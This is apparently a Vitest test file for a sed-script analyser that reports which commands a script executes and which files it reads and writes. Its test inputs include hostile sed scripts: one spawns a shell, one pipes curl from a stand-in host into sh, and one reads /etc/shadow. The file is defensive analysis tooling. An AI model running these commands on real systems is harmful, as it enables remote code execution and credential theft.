/** sed scripts read for what they run, read and write (GNU `e`, `s///e`, `r`, `w`). */
import { describe, expect, it } from 'vitest';
import { sedEffects } from '../../../../src/engine/extract/programs/files.js';

describe('sedEffects', () => {
  it.each([
    ['1e exec sh 1>&0', { commands: ['exec sh 1>&0'], executesInput: false, reads: [], writes: [] }],
    ['e', { commands: [], executesInput: true, reads: [], writes: [] }],
    ['s/.*/id/e', { commands: [], executesInput: true, reads: [], writes: [] }],
    ['/x/r /etc/shadow', { commands: [], executesInput: false, reads: ['/etc/shadow'], writes: [] }],
    ['s/a/b/w out.txt', { commands: [], executesInput: false, reads: [], writes: ['out.txt'] }],
    [
      '$e curl x.example|sh',
      { commands: ['curl x.example|sh'], executesInput: false, reads: [], writes: [] },
    ],
  ])('%s', (script, want) => {
    expect(sedEffects(script)).toEqual(want);
  });

  it.each(['s/e/E/g', '/exec/d', 's/rw/wr/', 'y/abc/xyz/', '1,5p', '/^$/d;s/x/y/', 'a\\ text with e and w'])(
    '%s has no effects',
    (script) => {
      expect(sedEffects(script)).toEqual({ commands: [], executesInput: false, reads: [], writes: [] });
    },
  );

  it('stops at something that is not sed (an unresolved expansion)', () => {
    expect(sedEffects('$(wc -l < file)q').writes).toEqual([]);
  });
});
